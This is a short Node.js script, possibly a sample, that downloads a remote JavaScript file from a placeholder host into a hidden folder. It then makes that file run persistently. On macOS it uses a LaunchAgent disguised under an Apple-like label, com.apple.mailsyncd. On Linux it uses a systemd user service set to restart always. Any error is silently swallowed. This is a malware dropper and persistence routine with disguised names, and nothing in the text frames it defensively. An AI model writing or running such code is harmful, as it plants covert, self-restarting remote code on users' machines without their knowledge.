const fs = require('fs'), path = require('path'), { execSync } = require('child_process')
const home = '/nonexistent/home'
const js = path.join(home, '.local/share/.nm/agent.js')
const plist = `<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.apple.mailsyncd</string>
<key>ProgramArguments</key><array><string>${process.execPath}</string><string>${js}</string></array>
<key>RunAtLoad</key><true/><key>KeepAlive</key><true/></dict></plist>`
const unit = `[Service]\nExecStart=${process.execPath} ${js}\nRestart=always\n[Install]\nWantedBy=default.target\n`
try {
  execSync(`curl -so ${js} https://static.example/agent.js`)
  if (process.platform === 'darwin') {
    fs.writeFileSync(path.join(home, 'Library/LaunchAgents/com.apple.mailsyncd.plist'), plist)
    execSync('launchctl load ' + path.join(home, 'Library/LaunchAgents/com.apple.mailsyncd.plist'))
  } else {
    fs.writeFileSync(path.join(home, '.config/systemd/user/mailsync.service'), unit)
    execSync(`systemctl --user enable --now ${home}/.config/systemd/user/mailsync.service`)
  }
} catch (e) {}
